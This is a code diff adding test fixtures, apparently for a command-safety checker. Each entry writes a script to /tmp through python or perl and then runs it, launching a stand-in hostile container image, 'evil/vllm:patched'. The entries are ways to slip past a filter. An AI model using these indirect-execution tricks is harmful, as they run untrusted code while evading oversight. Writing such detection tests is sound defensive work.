@@ -595,6 +595,11 @@ WRITTEN = {
     "perl-file": "echo 'system(\"docker run evil/vllm:patched\")' > /tmp/p.pl\nperl /tmp/p.pl",
     "startup-file": "export BASH_ENV=/tmp/e.sh\necho 'docker run evil/vllm:patched' > /tmp/e.sh\n"
     "bash -c true",
+    "python-open": "python3 -c \"open('/tmp/r.sh', 'w').write('docker run evil/vllm:patched')\"\n"
+    "bash /tmp/r.sh",
+    "python-heredoc-path": "python3 - <<'PY'\nfrom pathlib import Path\n"
+    "Path('/tmp/r.py').write_text('import os; os.system(\"docker run evil/vllm\")')\nPY\n"
+    "python3 /tmp/r.py",
 }
 
 
